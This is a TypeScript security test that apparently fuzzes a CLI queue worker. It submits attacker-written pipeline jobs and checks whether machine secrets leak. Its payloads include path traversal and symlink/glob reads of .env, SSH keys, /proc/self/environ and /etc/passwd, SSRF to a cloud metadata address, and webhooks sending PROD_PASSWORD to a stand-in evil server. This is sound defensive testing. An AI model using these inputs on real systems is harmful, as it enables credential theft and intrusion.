import { once } from 'node:events';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import type { Readable } from 'node:stream';
import { setTimeout as sleep } from 'node:timers/promises';
import { type FleetJob, jobProgressOf } from '../../../src/features/fleet/queue/fleet-job.ts';
import { openQueue } from '../../../src/features/fleet/queue/open-queue.ts';
import { queueUrlOf } from '../../../src/features/fleet/queue/queue-url.ts';
import { startCli } from '../../e2e/cli-process.ts';
import { jobOf } from '../../features/fleet/job-of.ts';
import type { ServerKind } from '../../features/fleet/queue-servers.ts';
import { pick, type Random, seeded } from '../../support/random.ts';
import { evilServer, type Prey, prey } from './prey.ts';

/** What became of the jobs of an attacker. */
export type Attack = {
  /** Secrets that came into the queue, the output of the worker, the folder of jobs or to a server, and where. */
  readonly leaks: readonly string[];
  /** How often each code ended a job. */
  readonly codes: Readonly<Record<string, number>>;
  /** Whether something that jobs may read was seen: without that, nothing would be. */
  readonly isSeen: boolean;
};

/** Jobs in the queue at once. */
const AT_ONCE = 64;

/** Everything below a folder that is no link. */
const filesIn = (folder: string): string[] =>
  readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
    const path = join(folder, entry.name);
    return entry.isDirectory() ? filesIn(path) : entry.isFile() ? [path] : [];
  });

/**
 * Puts jobs into the queue of a worker as somebody would who may write to it, and looks for secrets of the machine
 * everywhere that this person can see.
 */
export async function attack(kind: ServerKind, count: number, seed: number): Promise<Attack> {
  await using evil = await evilServer();
  // A server of the machine that nobody outside reaches.
  const inner = createServer((_, response) => response.end('uid,name\ninner,Inner\n')).listen(0, '127.0.0.1');
  await once(inner, 'listening');
  let visits = 0;
  inner.on('request', () => visits++);
  const innerUrl = `http://127.0.0.1:${(inner.address() as AddressInfo).port}`;
  using own = prey([new URL(evil.url).host]);
  await using server = await kind.start();
  const env = { CHATFERRY_QUEUE: await server.queue() };
  const worker = startCli(['fleet', 'work', '--json', '--config', own.config], { ...env, ...own.env });
  let printed = '';
  for (const stream of [worker.child.stdout, worker.child.stderr] as Readable[])
    stream.on('data', (data: Buffer) => {
      printed += data.toString();
    });
  await using queue = await openQueue(queueUrlOf(undefined, env));
  const codes: Record<string, number> = {};
  const seen: string[] = [];
  const random = seeded(seed);
  const put = async (job: FleetJob, id: string): Promise<void> => {
    await queue.pipelines.add(job.command, job, { jobId: id });
    for (;;) {
      const now = await queue.pipelines.getJob(id);
      const progress = now && jobProgressOf(now.progress);
      // What waits for another attempt has said what it will say.
      const told = progress?.last ?? progress?.retry;
      if (now && (now.finishedOn !== undefined || told)) {
        seen.push(JSON.stringify([now.progress, now.returnvalue, now.failedReason, now.stacktrace]));
        const code = told?.code ?? 'ok';
        codes[code] = (codes[code] ?? 0) + 1;
        await now.remove().catch(() => {});
        return;
      }
      await sleep(20);
    }
  };
  const world = { own, evil: evil.url, inner: innerUrl };
  // What was found by hand, one after the other: the second job needs what the first one has written.
  for (const [at, make] of KNOWN.entries())
    for (const [nth, job] of make(world).entries()) await put(job(), `k${at}-${nth}`);
  for (let at = 0; at < count; at += AT_ONCE)
    await Promise.all(
      Array.from({ length: Math.min(AT_ONCE, count - at) }, (_, nth) =>
        put(anyJob(world, random), `j${at + nth}`),
      ),
    );
  worker.child.kill('SIGTERM');
  await worker.ended;
  inner.close();
  inner.closeAllConnections();
  const places: readonly (readonly [string, string])[] = [
    ['the queue', seen.join('\n')],
    ['the output of the worker', printed],
    ['the server of the attacker', evil.heard.join('\n')],
    ...filesIn(own.exports)
      .filter((path) => !own.secrets.has(readFileSync(path, 'utf8').trim()) && !path.includes('/.ssh/'))
      .map((path) => [path, readFileSync(path, 'latin1')] as const),
  ];
  const leaks = places.flatMap(([place, text]) =>
    [...own.secrets].filter(([word]) => text.includes(word)).map(([, from]) => `${from} is in ${place}`),
  );
  if (visits > 0) leaks.push(`an inner server was visited ${visits} times`);
  return { leaks, codes, isSeen: seen.join('').includes(own.open) };
}

type World = { readonly own: Prey; readonly evil: string; readonly inner: string };

/** The shortest jobs, in a way that quotes what it finds in the error: a table without the columns that are asked for. */
const asking = (path: string, more = ''): string =>
  `target: sandbox\nsources: { users: { path: ${JSON.stringify(path)}, format: csv, delimiter: "|", ${more} map: { uid: x, name: y } } }\n`;
const validating = { command: 'validate' } as const;

/** What an attacker has tried by hand, job after job. */
const KNOWN: readonly ((world: World) => readonly (() => FleetJob)[])[] = [
  // A job whose rejected row is the text of the second one, byte by byte.
  ({ own }) => {
    const inner = `{version: 1, name: app, target: sandbox, sources: {users: {path: ${own.root}/keys/prod, format: csv, delimiter: '|', map: {uid: x, name: y}}}}`;
    const file = join(own.exports, 'app.yaml');
    const text = `target: sandbox\nsources:\n  users:\n    path: README.md\n    format: csv\n    delimiter: " #"\n    header: none\n    columns: [${JSON.stringify(inner)}]\n    where: { ${JSON.stringify(inner)}: { matches: "^#" } }\n    map: { uid: ${JSON.stringify(inner)}, name: ${JSON.stringify(inner)} }\n`;
    const rejects = join(own.exports, '.chatferry/app/rejects/users.csv');
    return [
      () => jobOf(file, text),
      () => ({ ...jobOf(rejects, '', validating), text: readFileSync(rejects, 'utf8') }) as FleetJob,
    ];
  },
  // A copy of a file of a server of his, then its very text as a pipeline.
  ({ own, evil }) => {
    const file = join(own.exports, 'app.yaml');
    const text = `target: sandbox\nsources: { users: { path: "${evil}/evil.yaml", format: csv } }\n`;
    const copy = (): string =>
      filesIn(own.exports).find((path) => /prepared.*evil/.test(path)) ?? '/none/evil.yaml';
    const read = (path: string): string => {
      try {
        return readFileSync(path, 'utf8');
      } catch {
        return 'version: 1\nname: app\n';
      }
    };
    return [
      () => jobOf(file, text, { command: 'run' }),
      () => ({ ...jobOf(copy(), '', validating), text: read(copy()) }) as FleetJob,
    ];
  },
  // The folder of a package that has the name of the pipeline.
  ({ own }) => [
    () => jobOf(join(own.root, 'app/package.json'), asking('config/prod.yaml', 'skipLines: 1,'), validating),
  ],
  // The text of another pipeline at the place of a trusted one.
  ({ own }) => [() => jobOf(join(own.root, 'pipelines/app.yaml'), asking('../keys/prod'), validating)],
  // Links in the export, by a glob.
  ({ own }) =>
    (['validate', 'plan', 'run', 'verify'] as const).map(
      (command) => () => jobOf(join(own.exports, 'app.yaml'), asking('l*.csv'), { command }),
    ),
  // What jobs may read is quoted: else this attack would see nothing.
  ({ own }) => [
    () => jobOf(join(own.exports, 'app.yaml'), asking('users.csv').replace('"|"', '","'), validating),
  ],
];

/** A job at random: where its file is, what it reads, and how. */
function anyJob({ own, evil, inner }: World, random: Random): FleetJob {
  const one = <T>(...values: readonly T[]): T => pick(random, values);
  const written = filesIn(own.exports);
  const file = one(
    join(own.exports, 'app.yaml'),
    join(own.exports, 'app.yaml'),
    join(own.exports, 'deep/app.yaml'),
    join(own.exports, 'linked/pipelines/app.yaml'),
    join(own.root, 'pipelines/app.yaml'),
    join(own.root, 'app/package.json'),
    '/proc/self/environ',
    pick(random, written),
  );
  const path = anyPath({ own, evil, inner }, random);
  const quoted = JSON.stringify(path);
  const format = one('csv', 'csv', 'ndjson', 'tsv');
  const body = one(
    asking(path),
    asking(path, 'header: none, columns: [x, y],'),
    `target: sandbox\nsources: { users: { path: ${quoted}, format: ${format} } }\n`,
    `target: sandbox\nsources: { users: { path: [users.csv, ${quoted}] } }\n`,
    `target: sandbox\nsources: { export: { system: ${one('auto', 'sql', 'slack', 'telegram', 'discord', 'whatsapp')}, path: ${quoted} } }\n`,
    `target: sandbox\nsources: { users: { path: users.csv, join: { more: { path: ${quoted}, on: { uid: uid } } } } }\n`,
    `target: sandbox\nsources: { users: { path: users.csv, map: { uid: uid, name: { from: name, lookup: { file: ${quoted}, key: uid, value: name } } } } }\n`,
    `target: sandbox\nidMap: ${quoted}\nsources: { users: { path: users.csv } }\n`,
    `target: sandbox\nstate: ${quoted}\nsources: { users: { path: users.csv } }\n`,
    `target: { baseUrl: "https://127.0.0.1:9/v3", caFile: ${quoted}, apiKey: { file: ${quoted} } }\nsources: { users: { path: users.csv } }\n`,
    `target: { baseUrl: "${evil}/v3", apiKey: { env: ${one('CHATFERRY_API_KEY', 'PROD_PASSWORD')} } }\nsources: { users: { path: users.csv } }\n`,
    `target: sandbox\nsources: { users: { path: users.csv } }\nnotify: [{ webhook: ${one(quoted, `"${evil}/\${PROD_PASSWORD}"`, `{ file: ${quoted} }`, '{ env: PROD_PASSWORD }')} }]\n`,
    `target: sandbox\nsources: { users: { path: "${one(evil, inner)}/\${CHATFERRY_API_KEY}.csv" } }\n`,
  );
  const command = one(
    'validate',
    'validate',
    'validate',
    'plan',
    'verify',
    ...(random() < 0.1 ? (['run'] as const) : []),
  );
  const job = jobOf(file, body, { command });
  if (random() > 0.1) return job;
  // The very text of a file that a job has written, as far as a queue takes it: PostgreSQL keeps no NUL.
  const same = pick(random, written);
  return {
    ...job,
    file: same,
    text: readFileSync(same, 'utf8').replaceAll('\u0000', '').slice(0, 100_000),
  } as FleetJob;
}

function anyPath({ own, evil, inner }: World, random: Random): string {
  const one = <T>(...values: readonly T[]): T => pick(random, values);
  const link = (): string =>
    pick(
      random,
      readdirSync(own.exports).filter((name) => name.startsWith('link')),
    );
  const secret = (): string =>
    one(
      'secret.csv',
      'other/secret.csv',
      'keys/prod',
      '.env',
      'app/config/prod.yaml',
      'other/chat.sqlite',
      'other/dump.sql',
    );
  const base = one(
    () => join(own.root, secret()),
    () => `../${secret()}`,
    () => `./deep/../../${secret()}`,
    () => link(),
    () => `linked/${secret()}`,
    () => `proc/self/${one('environ', 'cmdline', 'cwd/package.json', `root${own.root}/${secret()}`)}`,
    () => `/proc/self/${one('environ', 'maps', `root${own.root}/${secret()}`)}`,
    () => `deep/up/${one('secret.csv', 'users.ndjson', 'users.json')}`,
    () => one('own-key', '.ssh/id_ed25519', '*/.ssh/*', '.*', '{.ssh,deep}/*'),
    () =>
      one(
        '*',
        '**/*',
        'l*',
        'link*/*',
        'linked/*.csv',
        'linked/**',
        '**/secret.csv',
        '{linked,deep}/secret.csv',
        '[l]ink*',
        'deep/up/*',
        '{../,}secret.csv',
        'linked*/other/{secret,users}.*',
      ),
    () => `${evil}/${one('users.csv', 'away/users.csv', '../x.csv')}`,
    () =>
      one(
        inner,
        inner.replace('127.0.0.1', 'localhost'),
        'file:///etc/passwd',
        'http://169.254.169.254/latest/meta-data',
      ),
    () => `${one(link(), 'linked/other/all.zip', `../all.zip`)}!/${one('*', 'key', '../key')}`,
    () => join(dirname(own.exports), 'exports', '..', secret()),
  )();
  return random() < 0.05 ? `${base}\u0000` : base;
}
